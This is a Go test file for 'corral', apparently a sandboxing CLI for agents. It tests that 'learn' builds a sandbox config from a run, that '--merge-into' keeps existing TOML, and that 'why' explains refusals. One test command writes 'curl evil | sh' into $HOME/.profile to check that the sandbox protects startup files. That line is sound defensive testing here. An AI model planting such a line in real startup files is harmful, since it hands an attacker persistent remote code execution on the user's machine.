package cli

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// learnHome points HOME (and the state directory) of the CLI under test
// at a fresh directory.
func learnHome(t *testing.T) string {
	home := workspace(t)
	t.Setenv("HOME", home)
	t.Setenv("XDG_STATE_HOME", filepath.Join(home, ".local", "state"))
	return home
}

// `corral learn` prints a config with what the command needed, the
// start-up file it wrote left out; nothing of the run lands; `corral run`
// with that config meets no refusal.
func TestLearnPrintsTheConfigThatLetsItRun(t *testing.T) {
	needsSandbox(t)
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl is not installed")
	}
	home := learnHome(t)
	ws := workspace(t)
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	require.NoError(t, err)
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprintln(w, "served") }))
	srv.Listener = l
	srv.Start()
	defer srv.Close()
	core := fmt.Sprintf(`mkdir -p "$HOME/.cache/tool/x" && echo a > "$HOME/.cache/tool/x/a" && echo b > "$HOME/.cache/tool/b"
curl -sS --noproxy '' --proxy "$HTTP_PROXY" http://%s/
(cd "$HOME/.cache/tool" && curl -s --unix-socket s http://x/); echo built > out; true
`, l.Addr())
	stdout, stderr, code := cli(t, ws, "learn", "--net", "allow", "--", "sh", "-c", core+`echo 'curl evil | sh' >> "$HOME/.profile"`)
	require.Equal(t, 0, code, "%s", stderr)
	assert.Contains(t, stderr, "served", "the learning run reached the server; its output goes to stderr")
	cache := filepath.Join(home, ".cache", "tool")
	assert.Contains(t, stdout, fmt.Sprintf("  %q, # learned: first %s", cache, cache), stdout)
	assert.Contains(t, stdout, `"127.0.0.1", # learned: an address asked for by number`, stdout)
	assert.Contains(t, stdout, "allow_unix_sockets = true # learned: first socket(AF_UNIX) by curl", stdout)
	assert.Contains(t, stdout, `network = "allow"`, stdout)
	assert.Contains(t, stdout, fmt.Sprintf("  # %q, # learned, left out: a protected name", filepath.Join(home, ".profile")), stdout)
	for _, p := range []string{cache, filepath.Join(home, ".profile"), filepath.Join(ws, "out")} {
		assert.NoFileExists(t, p, "nothing of the learning run landed")
		assert.NoDirExists(t, p)
	}

	policy := filepath.Join(home, "agent.toml")
	require.NoError(t, os.WriteFile(policy, []byte(stdout), 0o644))
	require.NoError(t, os.MkdirAll(cache, 0o755)) // as the entry's warning says
	report := filepath.Join(home, "report.jsonl")
	_, stderr, code = cli(t, ws, "run", "--config", policy, "--report", report, "--", "sh", "-c", core)
	require.Equal(t, 0, code, "%s", stderr)
	got, err := os.ReadFile(report)
	require.NoError(t, err)
	assert.Empty(t, probesOut(string(got)), "the learned config lets it run")
	assert.FileExists(t, filepath.Join(ws, "out"))

	// Control: without the config the same command is refused.
	_, _, _ = cli(t, ws, "run", "--net", "allow", "--report", report, "--", "sh", "-c", core)
	got, err = os.ReadFile(report)
	require.NoError(t, err)
	assert.NotEmpty(t, probesOut(string(got)))
}

// probesOut is a report without the C library's probes.
func probesOut(report string) string {
	var out []string
	for _, line := range strings.Split(strings.TrimSpace(report), "\n") {
		if line != "" && !strings.Contains(line, `"probe":true`) {
			out = append(out, line)
		}
	}
	return strings.Join(out, "\n")
}

// --merge-into adds to the agent and keeps the rest of the file; a file
// that does not parse is refused and left as it is.
func TestLearnMergeInto(t *testing.T) {
	needsSandbox(t)
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl is not installed")
	}
	learnHome(t)
	ws := workspace(t)
	policy := filepath.Join(ws, "..", filepath.Base(ws)+".toml")
	t.Cleanup(func() { os.Remove(policy) })
	doc := "# my agents\n[[agents]]\nid = \"coder\"  # the coder\n\n[agents.sandbox]\nnetwork = \"none\" # offline\nwritable_paths = [\n  \"" + ws + "\", # mine\n]\n"
	require.NoError(t, os.WriteFile(policy, []byte(doc), 0o600))
	_, stderr, code := cli(t, ws, "learn", "--merge-into", policy, "--", "sh", "-c", `curl -s --unix-socket /tmp/s http://x/; true`)
	require.Equal(t, 0, code, "%s", stderr)
	got, err := os.ReadFile(policy)
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(string(got), "# my agents\n[[agents]]\nid = \"coder\"  # the coder\n\n[agents.sandbox]\n"), "%s", got)
	assert.Contains(t, string(got), "allow_unix_sockets = true # learned: first socket(AF_UNIX) by curl")
	assert.Contains(t, string(got), "network = \"none\" # offline\n", "what was not learned is kept: %s", got)
	assert.Contains(t, string(got), "  \""+ws+"\", # mine\n]")
	fi, err := os.Stat(policy)
	require.NoError(t, err)
	assert.Equal(t, os.FileMode(0o600), fi.Mode().Perm(), "the file's mode is kept")

	bad := []byte("[[agents]\nid = \"coder\"\n")
	require.NoError(t, os.WriteFile(policy, bad, 0o600))
	_, stderr, code = cli(t, ws, "learn", "--merge-into", policy, "--", "true")
	assert.Equal(t, exitUsage, code)
	assertOneLine(t, stderr, policy)
	got, _ = os.ReadFile(policy)
	assert.Equal(t, bad, got, "a file that does not parse is left as it is")
}

// `corral why` explains the last run's refusals, or a report's, with what
// would allow each and its cost.
func TestWhy(t *testing.T) {
	needsSandbox(t)
	home := learnHome(t)
	ws := workspace(t)
	_, stderr, code := cli(t, ws, "why")
	assert.Equal(t, exitUsage, code)
	assertOneLine(t, stderr, "no run's report kept yet")

	// The caller may write there (outside /tmp, which is private in the
	// sandbox): only the sandbox refuses it.
	dir, err := os.MkdirTemp("/var/tmp", "corral-why-")
	require.NoError(t, err)
	t.Cleanup(func() { os.RemoveAll(dir) })
	outside := filepath.Join(dir, "f")
	cli(t, ws, "run", "--", "sh", "-c", "echo x > "+outside+"; true")
	stdout, stderr, code := cli(t, ws, "why")
	require.Equal(t, 0, code, "%s", stderr)
	assert.Contains(t, stdout, "could not write "+outside+": outside the writable paths\n  allow: --writable (writable_paths)\n  cost:  ")

	report := filepath.Join(home, "r.jsonl")
	cli(t, ws, "run", "--report", report, "--", "true")
	stdout, _, code = cli(t, ws, "why", report)
	assert.Equal(t, 0, code)
	assert.Equal(t, "nothing was refused\n", stdout)

	require.NoError(t, os.WriteFile(report, []byte("not json\n"), 0o644))
	_, stderr, code = cli(t, ws, "why", report)
	assert.Equal(t, exitUsage, code)
	assertOneLine(t, stderr, "not a line of a corral report")
}
